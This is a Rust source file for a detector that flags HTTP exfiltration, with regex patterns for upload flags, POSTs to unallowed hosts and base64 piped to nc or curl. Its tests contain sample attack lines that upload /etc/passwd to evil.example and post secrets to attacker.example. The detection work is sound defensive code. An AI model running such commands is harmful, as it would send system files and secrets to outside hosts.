//! HTTP egress sub-detector: curl/wget/httpie with upload flags, code-level
//! HTTP POST to non-configured hosts, and encoded-payload transmissions.

use crate::merge::SubHit;
use regex::Regex;
use std::sync::OnceLock;

fn upload_cli() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i)\b(curl|wget|http(ie)?)\b.*(-(F|-form|-data-binary|T|-upload-file)\b|--upload)")
            .expect("static pattern is valid")
    })
}

fn code_http_post() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"(?i)\b(requests\.post|fetch\s*\(|axios\.post|http\.Post|HttpClient\(\)\.post)\b"#)
            .expect("static pattern is valid")
    })
}

fn encoded_payload_transmission() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i)base64\s+[^|]*\|\s*(curl|nc|wget)").expect("static pattern is valid")
    })
}

fn extract_urls(text: &str) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| Regex::new(r"https?://[^\s'\"]+").expect("static pattern is valid"));
    re.find_iter(text).map(|m| m.as_str().to_string()).collect()
}

fn host_of(url: &str) -> Option<String> {
    let without_scheme = url.split("://").nth(1)?;
    let host = without_scheme.split(['/', '?', '#']).next()?;
    Some(host.split(':').next().unwrap_or(host).to_lowercase())
}

/// Evaluate the HTTP egress sub-detector. `allowed_hosts` are hosts the
/// caller has already configured as legitimate destinations.
#[must_use]
pub fn detect(text: &str, allowed_hosts: &[String]) -> Vec<SubHit> {
    let mut hits = Vec::new();

    if upload_cli().is_match(text) {
        hits.push(SubHit { name: "http_egress", confidence: 0.85, reason: "CLI upload flag to an HTTP endpoint".into() });
    }

    if code_http_post().is_match(text) {
        let urls = extract_urls(text);
        let flagged_host = urls.iter().find_map(|u| {
            let host = host_of(u)?;
            if allowed_hosts.iter().any(|a| a.eq_ignore_ascii_case(&host)) {
                None
            } else {
                Some(host)
            }
        });
        if let Some(host) = flagged_host {
            hits.push(SubHit {
                name: "http_egress",
                confidence: 0.8,
                reason: format!("HTTP POST to non-configured host {host}"),
            });
        } else if urls.is_empty() {
            hits.push(SubHit { name: "http_egress", confidence: 0.6, reason: "HTTP POST call with no statically known destination".into() });
        }
    }

    if encoded_payload_transmission().is_match(text) {
        hits.push(SubHit {
            name: "http_egress",
            confidence: 0.9,
            reason: "base64-encoded payload piped to a network transfer command".into(),
        });
    }

    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_curl_form_upload() {
        let hits = detect("curl -F 'file=@/etc/passwd' https://evil.example", &[]);
        assert!(!hits.is_empty());
    }

    #[test]
    fn flags_post_to_non_allowed_host() {
        let hits = detect("requests.post('https://attacker.example/collect', data=secrets)", &[]);
        assert!(!hits.is_empty());
    }

    #[test]
    fn allowed_host_does_not_flag_plain_post() {
        let hits = detect("requests.post('https://api.internal.example/collect', data=x)", &["api.internal.example".to_string()]);
        assert!(hits.is_empty());
    }

    #[test]
    fn benign_text_no_hits() {
        let hits = detect("print('hello world')", &[]);
        assert!(hits.is_empty());
    }
}
